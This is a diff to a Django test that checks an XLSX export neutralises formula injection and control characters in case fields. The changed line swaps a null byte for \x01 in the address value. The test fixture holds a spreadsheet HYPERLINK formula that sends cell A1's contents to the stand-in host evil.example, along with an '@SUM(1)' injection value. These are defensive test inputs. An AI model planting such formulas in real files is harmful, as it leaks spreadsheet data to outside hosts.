@@ -189,7 +189,7 @@ def test_export__formula_and_control_characters_in_a_description__neutralised_an
     intake cleaned text) must not turn the XLSX export into a 500 for every staff user."""
     case = phoned_in(people, categories["rubbish"], located.estate)
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
-    Case.objects.filter(pk=case.pk).update(description=hostile, address="楼道\u0000口\x0b", contact_name="@SUM(1)")
+    Case.objects.filter(pk=case.pk).update(description=hostile, address="楼道\x01口\x0b", contact_name="@SUM(1)")
     client.force_login(people["worker"])
 
     response = client.get(url("export-xlsx"))
